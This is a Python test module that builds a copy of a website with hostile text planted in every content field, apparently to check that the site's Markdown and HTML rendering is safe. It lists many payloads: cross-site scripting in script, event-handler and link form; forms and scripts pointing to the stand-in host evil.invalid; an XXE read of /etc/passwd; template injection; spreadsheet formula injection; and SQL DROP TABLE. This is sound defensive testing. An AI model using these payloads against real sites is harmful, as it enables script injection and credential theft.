"""Texts as somebody types them who means harm, and a site that has them in every text field.

The classes are the well-known ones of lists for those who test filters; every text is our own.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from itertools import cycle, product
from pathlib import Path
from typing import Any

import yaml

from generator.markup import typed_links
from generator.models.fields import Record
from generator.models.shapes import FILES, Shape, shapes

RUN = "alert(1)"

_TAGS = (
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT >",
    f"<script/x>{RUN}</script/x>",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    "<script src=https://evil.invalid/x.js></script>",
    "<script src=//evil.invalid></script>",
    f"<script type=module>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='x'onerror='{RUN}'>",
    f'<img src="x" / onerror="{RUN}" /',
    f"<img/src/onerror={RUN}>",
    f"<img src=x:{RUN} onerror=eval(src)>",
    f"<image src=x onerror={RUN}>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=`x`onerror=alert`1`>",
    "<img src=https://evil.invalid/pixel.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    "<svg><script href=data:,alert(1) />",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe src=https://evil.invalid/></iframe>",
    "<frameset><frame src=//evil.invalid></frameset>",
    f"<object data=javascript:{RUN}></object>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    f"<embed src=javascript:{RUN}>",
    "<applet code=x.class></applet>",
    "<base href=https://evil.invalid/>",
    f"<base href=javascript:{RUN}//>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    f"<link rel=import href='data:text/html,<script>{RUN}</script>'>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<style>@import'//evil.invalid/x.css';</style>",
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    "<style>body{width:expression(alert(1))}</style>",
    '<div style="background:url(javascript:alert(1))">',
    "<div style='position:fixed;inset:0;background:#fff'>",
    "<form action=https://evil.invalid/><input name=password><button>ส่ง</button></form>",
    f"<form><button formaction=javascript:{RUN}>กด</button></form>",
    f"<isindex type=image src=x onerror={RUN}>",
    f"<input type=image src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<x onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</x>",
    f"<a href=javascript:{RUN}>กดที่นี่</a>",
    f"<a href='https://evil.invalid/' ping=//evil.invalid onmouseover={RUN}>x</a>",
    f"<table background=javascript:{RUN}><tr><td>x</table>",
    f"<bgsound src=javascript:{RUN}>",
    "<portal src=https://evil.invalid/></portal>",
)
_BREAKOUTS = (
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" onmouseover="{RUN}',
    f"' onfocus='{RUN}' autofocus='",
    f'" style="x:expression({RUN})',
    f"`onload={RUN} x=`",
    f"</title><script>{RUN}</script>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</noscript><img src=x onerror={RUN}>",
    f"--><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"]]><img src=x onerror={RUN}>",
    f"<?xml version='1.0'?><?x <img src=x onerror={RUN}> ?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    f'"}}];{RUN}//',
    f'\\"}};{RUN};//',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_MUTATIONS = (
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<template><s><template><s><img src=x onerror={RUN}>",
    f"<select><template><img src=x onerror={RUN}></template></select>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f'<title><p id="</title><img src=x onerror={RUN}>">',
    f"<plaintext><img src=x onerror={RUN}>",
)
_MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A&#x61&#x76&#x61script:{RUN})",
    f"[x](java&Tab;script:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](javascript%3A{RUN})",
    f"[x](\\javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:https://evil.invalid/1)",
    "[x](file:///etc/passwd)",
    "[x](//evil.invalid/)",
    "[x](\\\\evil.invalid\\x)",
    f"[x](view-source:javascript:{RUN})",
    f"![x](javascript:{RUN})",
    "![x](https://evil.invalid/pixel.png)",
    f'![x" onerror="{RUN}](x.png)',
    f"<javascript:{RUN}>",
    f"<vbscript:{RUN}>",
    "<data:text/html,x>",
    f"[x][1]\n\n[1]: javascript:{RUN}",
    f'[1]: <javascript:{RUN}> "x"\n\n[1]',
    f'[x](https://a.invalid/" onmouseover="{RUN})',
    f"[x](https://a.invalid '\" onmouseover=\"{RUN}')",
    f"[x](https://a.invalid \"' onmouseover='{RUN}\")",
    f"[![x](javascript:{RUN})](javascript:{RUN})",
    f'## x {{#a" onclick="{RUN}}}',
    f"## x {{#main}} <img src=x onerror={RUN}>",
    f"## <img src=x onerror={RUN}>",
    f"{{: onclick={RUN}}}",
    f"x{{onclick={RUN}}}",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"```\n</code></pre><script>{RUN}</script>\n```",
    f'~~~ "><img src=x onerror={RUN}>\nx\n~~~',
    f"`</code><img src=x onerror={RUN}>`",
    f"    </pre><script>{RUN}</script>",
    f"> <img src=x onerror={RUN}>",
    f"- <svg onload={RUN}>",
    f"1. <svg onload={RUN}>",
    f"<div markdown=1>\n\n[x](javascript:{RUN})\n\n</div>",
    f"https://a.invalid/<img src=x onerror={RUN}>",
    "<!-- slot 0 -->",
    "<!-- slot 1 --><!-- slot 0 -->",
)
_OTHER = (
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% include '/etc/passwd' %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7 * 7 %>",
    "{0.__class__}",
    "{th} {en} {write}",
    "%s %(x)s %n",
    '=HYPERLINK("https://evil.invalid/","x")',
    "=cmd|'/C calc'!A0",
    "+1+cmd|'/C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\uff1d1+1",
    "END:VEVENT\nBEGIN:VEVENT\nATTACH:javascript:alert(1)",
    "x\nURL:javascript:alert(1)",
    ":;,\\n\\,DESCRIPTION:x",
    "../../../../etc/passwd",
    "constructor",
    "__proto__",
    "</main></body></html>",
    '#import "/etc/passwd": x',
    '#read("/etc/passwd")',
    '$ sys.inputs $ #eval("1")',
    "[class*=x] { color: red }",
    "'; DROP TABLE news; --",
)


def _families() -> Iterator[str]:
    """Elements by handlers, each in a spelling of its own."""
    elements = ("img src=x", "svg", "video src=x", "input autofocus", "details open", "b", "x-y")
    handlers = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
    spellings = (
        "<{0} {1}={2}>",
        '<{0}/{1}="{2}"/>',
        "<{0}\n{1}\n=\n'{2}'\n>",
        '<{0} x="\'>" {1}={2}>',
        "&lt;{0} {1}={2}&gt;",
    )
    for (element, handler), spelling in zip(
        product(elements, handlers), cycle(spellings), strict=False
    ):
        yield spelling.format(element, handler, RUN)
        yield spelling.format(element.upper(), handler.upper(), "self['al'+'ert'](1)")
    schemes = ("javascript", "vbscript", "data", "livescript", "jar", "filesystem")
    forms = ("<a href='{0}:{1}'>x</a>", "<iframe src={0}:{1}>", "<a href=' {0}:{1}'>x</a>")
    for scheme, form in product(schemes, forms):
        yield form.format(scheme, RUN)
        yield form.format("".join(f"&#{ord(letter)};" for letter in scheme), RUN)


VECTORS = tuple(
    dict.fromkeys((*_TAGS, *_BREAKOUTS, *_MUTATIONS, *_MARKDOWN, *_OTHER, *_families()))
)
# Those whose links the reader takes: the others keep a body from being published at all.
TAKEN = tuple(
    one
    for one in VECTORS
    if not (typed := typed_links(one)).lost and not typed.pictures and not typed.outside
)
# Names of things elsewhere, and words that have to be what they are.
_NAMES = {"area", "areas", "excluded", "menu", "sector", "sectors", "whole", "number", "words"}
# Parsed as Markdown.
_BODIES = {("NewsItem", "body"), ("StandingPage", "body"), ("District", "about")}
_BODIES |= {("Idea", "text"), ("Way", "text")}
_SHORT = 210  # characters that leave room in a text of 300
_FOLDERS = {"news": "content/news", "district": "districts", "page": "content/pages"}


class Spoiler:
    """Puts hostile texts into every text of the files of a site; `hit` says into which fields."""

    def __init__(self, each: int) -> None:
        """So many texts a field, in turn, until each has stood somewhere, and again."""
        self._next, self._each = cycle(VECTORS), each
        self.hit: set[tuple[str, str]] = set()

    def spoil(self, root: Path) -> None:
        """The files below this root are written anew."""
        for kind, model in FILES.items():
            if kind in _FOLDERS:
                files = sorted((root / _FOLDERS[kind]).rglob("*.yml"))
            else:
                files = [root / f"content/{kind}.yml"]
            for file in files:
                typed = yaml.load(file.read_text("utf-8"), yaml.BaseLoader)  # noqa: S506  # texts alone
                spoilt = self._record(typed, model)
                file.write_text(
                    yaml.safe_dump(spoilt, allow_unicode=True, sort_keys=False), "utf-8"
                )

    def _record(self, typed: Any, model: type[Record]) -> Any:
        if not isinstance(typed, dict) or "th" in typed:
            return self._text(typed, model, "name")
        known = {shape.name: shape for shape in shapes(model)}
        return {name: self._field(value, known[name], model) for name, value in typed.items()}

    def _field(self, typed: Any, shape: Shape, model: type[Record]) -> Any:
        if shape.many:
            return [self._one(one, shape, model) for one in typed]
        return self._one(typed, shape, model)

    def _one(self, typed: Any, shape: Shape, model: type[Record]) -> Any:
        if shape.form == "record":
            inner = next((one for one in shape.records if _fits(typed, one)), shape.records[0])
            return self._record(typed, inner)
        if shape.form == "text":
            return self._text(typed, model, shape.name, shape.limit)
        if shape.form == "plain" and shape.name not in _NAMES:
            self.hit.add((model.__name__, shape.name))
            return f"{typed} {' '.join(next(self._next).split())}"
        return typed

    def _text(self, typed: Any, model: type[Record], name: str, limit: int = 0) -> Any:
        self.hit.add((model.__name__, name))
        both = typed if isinstance(typed, dict) else {"th": typed}
        found = {}
        for lang, text in both.items():
            if (model.__name__, name) in _BODIES:
                found[lang] = "\n\n".join((text, *TAKEN))
                continue
            more = " ".join(next(self._next) for _ in range(self._each))
            lead = f"ข้อความภาษาไทยยาวพอสมควร {text}" if lang == "th" else f"Text {text}"
            found[lang] = f"{lead[: _SHORT // 3]} {more[:_SHORT]}" if limit else f"{lead} {more}"
        return found


def _fits(typed: Any, model: type[Record]) -> bool:
    return isinstance(typed, dict) and set(typed) <= {shape.name for shape in shapes(model)}


def hostile_site(good: Path, root: Path, each: int = 3) -> Spoiler:
    """A copy of the site `good` at `root` with a hostile text in every field."""
    shutil.copytree(good, root)
    spoiler = Spoiler(each)
    spoiler.spoil(root)
    return spoiler
